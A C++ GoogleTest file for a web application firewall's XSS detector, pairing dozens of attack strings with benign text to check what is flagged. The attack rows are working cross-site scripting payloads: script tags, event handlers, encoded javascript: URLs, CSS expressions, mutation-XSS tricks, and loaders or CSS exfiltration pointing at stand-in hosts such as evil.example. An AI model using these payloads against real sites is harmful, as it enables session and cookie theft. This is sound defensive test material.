#include "waf/detect/xss.h"

#include <gtest/gtest.h>

#include <array>
#include <cstddef>
#include <string>
#include <string_view>

namespace portcullis::waf::detect {
namespace {

using namespace std::literals;

struct Row {
  std::string_view input;
  bool expected;
};

template <std::size_t N>
void expect_rows(const Row (&rows)[N]) {
  for (const Row& row : rows) {
    XssMatch match = detect_xss(row.input);
    EXPECT_EQ(match.found, row.expected)
        << "input: " << row.input << "\nreason: " << match.reason << " at " << match.offset;
  }
}

TEST(DetectXssTest, FlagsCrsRegressionAttacks) {
  constexpr Row kRows[] = {
      {R"v(<script xmlns="http://www.w3.org/1999/xhtml">setTimeout("top.frame2.location="javascript:(function () {var x = document.createElement("script");x.src = "//sdl.me/popup.js?//";document.childNodes[0].appendChild(x);}());"",1000)</script>&//)v",
       true},
      {R"v(<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />)v", true},
      {R"v(/char_test?mime=text/xml&body=<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />)v",
       true},
      {"<xss onbeforehellfreezes=alerw(1)>", true},
      {"www.github.com<script><img><iframe>", true},
      {R"v(/get/"onmouseover='prompt(document.cookie)'")v", true},
      {"/get/index.php/<svg/onload=alert()", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, PassesCrsRegressionBenignValues) {
  constexpr Row kRows[] = {
      {"OWASP CRS test agent", false},
      {"http://www.coreruleset.org", false},
      {"ModSecurity CRS 3 Tests", false},
      {"http://www.cnn.com", false},
      {"localhost", false},
      {"text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/"
       "png,*/*;q=0.5",
       false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsScriptTagsInAnyCaseOrNamespace) {
  constexpr Row kRows[] = {
      {"<script>alert(1)</script>", true},
      {"<ScRiPt>alert(1)</sCrIpT>", true},
      {"<script src=//evil.example/x.js></script>", true},
      {"<script/src=data:,alert(1)>", true},
      {"<html:script>alert(1)</html:script>", true},
      {"<svg><script>alert(1)</script></svg>", true},
      {"\"><script>alert(document.domain)</script>", true},
      {"<<script>alert(1)//<</script>", true},
      {"<scr<script>ipt>alert(1)</script>", true},
      {"<script\x0c>alert(1)</script>", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, KeepsProseAboutTheScriptTag) {
  constexpr Row kRows[] = {
      {"The <script> tag is used to embed JavaScript.", false},
      {"Put your <script> in the head", false},
      {"Put the <script> before </body>", false},
      {"Usage: python <script> [args]", false},
      {"<script>", true},
      {"<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>", true},
      {"<script> alert(1) </script>", true},
      {"<script>\nvar x = 1\n</script>", true},
      {"<script></script>", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsKnownEventHandlersWithAValue) {
  constexpr Row kRows[] = {
      {"<img src=x onerror=alert(1)>", true},
      {"<body onload=alert('XSS')>", true},
      {"<svg onload=alert(1)>", true},
      {"<details open ontoggle=alert(1)>", true},
      {"<input autofocus onfocus=alert(1)>", true},
      {"<marquee onstart=alert(1)>", true},
      {"<IMG SRC=# onmouseover=\"alert('xxs')\">", true},
      {"<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", true},
      {"<svg><animate onbegin=alert(1) attributeName=x dur=1s>", true},
      {"<img src=\"x\"onerror=\"alert(1)\">", true},
      {"<x onclick=alert(1)>click me", true},
      {"<img src=x onerror=alert('XSS test')>", true},
      {"<img src=x onerror=`alert(1)`>", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, IgnoresKnownHandlersThatOnlyNameSomething) {
  constexpr Row kRows[] = {
      {"<button onclick={handleClick}>Save</button>", false},
      {"<input value={text} onChange={e => setText(e.target.value)} />", false},
      {"<div onmouseover=\"x\">hover</div>", false},
      {"<x onload=true>", false},
      {"<x onclick=\"\">", false},
      {"<x onclick=\"go()\">", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, IgnoresHandlerValuesThatCannotParseAsScript) {
  constexpr Row kRows[] = {
      {"<x onclick=\"O'Brien\">", false},
      {"<x onfoo=\"the good parts (2008)\">", false},
      {"<button onClick={() => setCount(count + 1)}>+</button>", false},
      {"<a title=\"onclick=foo\">x</a>", false},
      {"<x onclick=\"this is it\">", false},
      {"<x onclick=\"alert(1) // the good parts\">", true},
      {"<x onclick=\"alert('the good parts')\">", true},
      {"<x onclick=\"top[/al ert/.source](1)\">", true},
      {"<x onclick=\"x = a / b; alert(x)\">", true},
      {"<x onclick=\"alert(1)\nfoo\nbar\">", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsUnknownOnAttributesOnlyWhenTheValueReadsLikeScript) {
  constexpr Row kRows[] = {
      {"<xss onbeforehellfreezes=alerw(1)>", true},
      {"<xss onanything=\"prompt`1`\">", true},
      {"<xss onfuture=document.cookie>", true},
      {"<x one=1>", false},
      {"<x onion=\"big red\">", false},
      {"<x onboarding>", false},
      {"<x onward=\"two words (really)\">", false},
      {"    one = Eq(rhs, 1)", false},
      {"onedict = dict(zip(keys, values))", false},
      {"once = kwargs.get('once')", false},
      {"def walk(top, onerror=None, followlinks=False):", false},
      {"const onThisPage = document.createElement('div');", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsScriptUrlsInUrlAttributesAfterEntityDecoding) {
  constexpr Row kRows[] = {
      {"<a href=\"javascript:alert(1)\">x</a>", true},
      {"<a href=\"JaVaScRiPt:alert(1)\">x</a>", true},
      {"<a href=\"  javascript:alert(1)\">x</a>", true},
      {"<a href=\"javascript:%61%6c%65%72%74%28%31%29\">x</a>", true},
      {"<a href=\"javascript://%0aalert(1)\">x</a>", true},
      {"<IMG SRC=\"livescript:[code]\">", true},
      {"<a href=\"javascript:void(0)\" class=\"menu\">Menu</a>", false},
      {"<a href=\"javascript:;\">x</a>", false},
      {"<a href=\"jav\tascript:alert(1)\">x</a>", true},
      {"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", true},
      {"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">", true},
      {"<a href=&#0000106&#0000097vascript:alert(1)>", true},
      {"<a href=\"&#x6A;avascript&colon;alert(1)\">", true},
      {"<a href=\"java&Tab;script:alert(1)\">", true},
      {"<a href=\"java&NewLine;script:alert(1)\">", true},
      {"<a href=\" &#14;  javascript:alert(1)\">", true},
      {"<IMG SRC='vbscript:msgbox(\"XSS\")'>", true},
      {"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", true},
      {"<form action=\"javascript:alert(1)\"><input type=submit>", true},
      {"<button formaction=javascript:alert(1)>x</button>", true},
      {"<math><maction xlink:href=\"javascript:alert(1)\">x</maction></math>", true},
      {"<table background=\"javascript:alert(1)\">", true},
      {"<link rel=stylesheet href=\"javascript:alert(1)\">", true},
      {"<a href=\"\\x0Bjavascript:javascript:alert(1)\">x</a>", true},
      {"<a href=\"/login?next=javascript:alert(document.cookie)\">x</a>", true},
      {"<a href=\"https://example.com/javascript/tutorial\">x</a>", false},
      {"<svg><set attributeName=href to=javascript:alert(1)>", true},
      {"<svg><animate attributeName=href values=\"x;javascript:alert(1)\">", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsDataUrlsThatAreNotMedia) {
  constexpr Row kRows[] = {
      {"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", true},
      {"<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", true},
      {"<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>", true},
      {"<a href=\"data:;base64,PHNjcmlwdD4=\">x</a>", true},
      {"<a href=\"data:image/svg+xml;base64,PHN2Zz4=\">x</a>", true},
      {"data:image/svg+xml;base64,PHN2Zz4=", false},
      {"<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">", false},
      {"<audio src=\"data:audio/mpeg;base64,SUQz\"></audio>", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsStyleThatRunsScript) {
  constexpr Row kRows[] = {
      {"<div style=\"width: expression(alert(1))\">", true},
      {"<div style=\"background:url('javascript:alert(1)')\">", true},
      {"<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">", true},
      {"<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
       "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'"
       "\\0029\">",
       true},
      {"<XSS STYLE=\"behavior: url(xss.htc);\">", true},
      {"<div style=\"-moz-binding:url(//evil/x.xml#x)\">", true},
      {"<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>", true},
      {"<style>li {list-style-image: url(\"javascript:alert('XSS')\");}</style><ul><li>x", true},
      {"<style>body { color: red; background: url(/bg.png) }</style>", false},
      {"<style>input[value^=a]{background:url(//evil.example/a)}</style>", true},
      {"<style>*{background:url('https://evil.example/?p')}</style>", true},
      {"<p style=\"color: red; font-weight: bold\">hi</p>", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsFramingTagsOnlyWithSomethingToLoad) {
  constexpr Row kRows[] = {
      {"<iframe src=\"https://evil.example\"></iframe>", true},
      {"<portal src=//evil.example/></portal>", true},
      {"<iframe src=javascript:alert(1)>", true},
      {"<object data=\"x.swf\"></object>", true},
      {"<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">", true},
      {"<applet code=\"Evil.class\">", true},
      {"<base href=\"https://evil.example/\">", true},
      {"<link rel=import href=\"https://evil.example/x.html\">", true},
      {"<iframe src=http://evil.example/scriptlet.html <", true},
      {"List<Object> items = new ArrayList<>();", false},
      {"Map<String, Object> m;", false},
      {"Optional<Link> next()", false},
      {"<iframe></iframe>", false},
      {"return \"<Frame filename=%r lineno=%r>\" % (self.filename, self.lineno)", false},
      {"<link rel=\"stylesheet\" href=\"https://cdn.example.com/site.css\">", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsMetaRefreshAndScriptContent) {
  constexpr Row kRows[] = {
      {"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", true},
      {"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://evil.example\">", true},
      {"<meta content=\"0;url=javascript:alert(1)\" name=x>", true},
      {"<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">", true},
      {"<meta charset=\"utf-8\">", false},
      {"<meta charset=\"UTF-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-", true},
      {"<meta name=\"description\" content=\"Big data: the future\">", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsMarkupInSrcdocAndScriptEntities) {
  constexpr Row kRows[] = {
      {"<x srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">", true},
      {"<BR SIZE=\"&{alert('XSS')}\">", true},
      {"my $list = &{$prop}($caseless);", false},
      {"<x srcdoc=\"just text\">", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsValuesThatBreakOutOfAnAttribute) {
  constexpr Row kRows[] = {
      {"\" onmouseover='alert(1)'", true},       {"\" autofocus onfocus=alert(1) x=\"", true},
      {"' onmouseover=alert(1) '", true},        {"x onmouseover=alert(1)", true},
      {"\"><img src=x onerror=alert(1)>", true}, {"'><svg/onload=alert(1)>", true},
      {"x><script>alert(1)</script>", true},     {"\" style=\"x:expression(alert(1))", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FlagsValuesThatAreScriptUrls) {
  constexpr Row kRows[] = {
      {"javascript:alert(1)", true},
      {"  JavaScript:alert(document.cookie)", true},
      {"javascript://%0aalert(1)", true},
      {"javascript:confirm`1`", true},
      {"jav&#x09;ascript:alert(1)", true},
      {"vbscript:msgbox(\"XSS\")", true},
      {"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", true},
      {"data:image/svg+xml,<svg onload=alert(1)>", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, KeepsProseThatMentionsSchemes) {
  constexpr Row kRows[] = {
      {"javascript: the good parts", false},
      {"JavaScript: The Good Parts by Douglas Crockford (2008)", false},
      {"I'm reading javascript: the good parts", false},
      {"data: 5 rows", false},
      {"data: 5 rows (approx.)", false},
      {"vbscript: how to loop", false},
      {"mailto:someone@example.com", false},
      {"https://example.com/javascript/tutorial?topic=alert(1)", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FollowsCommentsLikeTheTokenizer) {
  constexpr Row kRows[] = {
      {"<!--<img src=\"--><img src=x onerror=alert(1)//\">", true},
      {"<!-- x --!><script>alert(1)</script>", true},
      {"<!--><svg onload=alert(1)>", true},
      {"<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->", true},
      {"<?import namespace=\"t\" implementation=\"#default#time2\">", true},
      {"<!-- a comment -->", false},
      {"<!DOCTYPE html><html><body><p>hi</p></body></html>", false},
      {"<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Tove</to></note>", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, FollowsCdataAndRawTextElements) {
  constexpr Row kRows[] = {
      {"<svg><![CDATA[><image xlink:href=\"]]><img src=xx:x onerror=alert(2)//\"></svg>", true},
      {"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", true},
      {"<title><a title=\"</title><img src=x onerror=alert(1)>\">", true},
      {"</textarea><script>alert(1)</script>", true},
      {"<textarea><img src=x onerror=alert(1)></textarea>", true},
      {"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", true},
      {"<title>My page</title>", false},
      {"<textarea>a < b && c > d</textarea>", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, KeepsMarkupInsideQuotedAttributeValues) {
  constexpr Row kRows[] = {
      {"<a href=\"https://example.com/?q=<script>\">link</a>", false},
      {"<span title=\"a <b> tag\">x</span>", false},
      {"<x y=a<script>alert(1)</script>", true},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, LeavesForeignContentWhereHtmlDoes) {
  constexpr Row kRows[] = {
      {"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", true},
      {"<svg><p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", true},
      {"<math><mi>x</mi></math><style>.a{color:red}</style>", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, ReadsLessThanBeforeANonLetterAsText) {
  constexpr Row kRows[] = {
      {"a < b > c", false},       {"<3", false},
      {"x <= y", false},          {"< script>", false},
      {"if (a<b && c>d)", false}, {"if (a < b && c > d) { }", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, JudgesAnUnclosedTagAtTheEndOfTheInput) {
  constexpr Row kRows[] = {
      {"<svg/onload=alert()", true},
      {"<img src=x onerror=alert(1)", true},
      {"<a href=\"javascript:alert(1)", true},
      {"<img src=x onerror=&#97;lert(1", true},
      {"<script", true},
      {"<b", false},
      {"<img src=\"https://x/cat.png", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, KeepsHarmlessHtml) {
  constexpr Row kRows[] = {
      {"<b>bold</b>", false},
      {"<i>x</i> and <em>y</em><br/>", false},
      {"<a href=\"https://example.com/a?b=c&d=e\">x</a>", false},
      {"<a href=\"/path?x=1&amp;y=2\" title=\"O'Brien\">link</a>", false},
      {"<img src=\"/cat.png\" alt=\"O'Brien\">", false},
      {"<img src=\"https://x/cat.png\" alt=\"a cat\">", false},
      {"<p class=\"note\" id=\"n1\">Hello, world</p>", false},
      {"<ul><li>one</li><li>two</li></ul>", false},
      {"<blockquote cite=\"https://example.com/\">quote</blockquote>", false},
      {"<svg width=\"10\" height=\"10\"><circle r=\"4\"/></svg>", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, KeepsCodeSnippets) {
  constexpr Row kRows[] = {
      {"List<String>", false},
      {"Vec<u8>", false},
      {"std::map<int, std::string> m;", false},
      {"x => x * 2", false},
      {"Option<Box<dyn Fn()>>", false},
      {"template <typename T> T max(T a, T b);", false},
      {"for (int i = 0; i<n; i++) { a[i] = b[i]; }", false},
      {"echo \"$HOME\" | grep -v 'x' > out.txt", false},
      {"SELECT * FROM t WHERE a <> 'b'", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, KeepsProseNamesAndQuotes) {
  constexpr Row kRows[] = {
      {"\"quoted\" text", false},
      {"O'Reilly", false},
      {"He said \"hi\" and left", false},
      {"onion=3", false},
      {"one=1", false},
      {"\"onboarding\" tips", false},
      {"It's a <b>test</b>, isn't it?", false},
      {"I <3 you & you <3 me", false},
      {"Don't forget: meeting at 10:30 (room 4)", false},
      {"top secret", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, KeepsJsonUrlsEmailsAndUserAgents) {
  constexpr Row kRows[] = {
      {R"v({"on":true,"script":"x"})v", false},
      {R"v({"onload": "fast", "title": "a <b> tag"})v", false},
      {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
       "Safari/537.36",
       false},
      {"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0", false},
      {"https://example.com/search?q=a+b&lang=en#top", false},
      {"John Doe <john.doe@example.com>", false},
      {"[a link](https://example.com) and **bold** `code`", false},
      {"", false},
  };
  expect_rows(kRows);
}

TEST(DetectXssTest, ReportsTheReasonAndWhereTheConstructStarts) {
  struct ReasonRow {
    std::string_view input;
    std::string_view reason;
    std::size_t offset;
  };
  constexpr ReasonRow kRows[] = {
      {"ab<script>", "script tag", 2},
      {"<img src=x onerror=alert(1)>", "event handler", 11},
      {"<a href=javascript:alert(1)>", "script url", 3},
      {"<p style=\"x:expression(alert(1))\">", "style expression", 3},
      {"x<iframe src=//e>", "dangerous tag", 1},
      {"\" onfocus=alert(1) \"", "event handler", 2},
  };
  for (const ReasonRow& row : kRows) {
    XssMatch match = detect_xss(row.input);
    EXPECT_TRUE(match.found) << row.input;
    EXPECT_EQ(match.reason, row.reason) << row.input;
    EXPECT_EQ(match.offset, row.offset) << row.input;
  }
  EXPECT_EQ(detect_xss("<b>fine</b>").reason, "");
}

TEST(DetectXssTest, FinishesMegabyteInputsOfRepeatedPatterns) {
  constexpr std::array kPatterns = {"<a"sv,    "\"'"sv,     "<!--"sv,           "<a b=\"&#"sv,
                                    "<a on"sv, "<style>"sv, "<svg><![CDATA["sv, "&#x"sv};
  for (std::string_view pattern : kPatterns) {
    std::string input;
    while (input.size() < (1u << 20)) input += pattern;
    // Only that it returns: a quadratic scan would take minutes here.
    static_cast<void>(detect_xss(input));
  }
  std::string style = "<style>";
  while (style.size() < (1u << 20)) style += "a{b:c}/**/\\";
  EXPECT_FALSE(detect_xss(style).found);
}

}  // namespace
}  // namespace portcullis::waf::detect
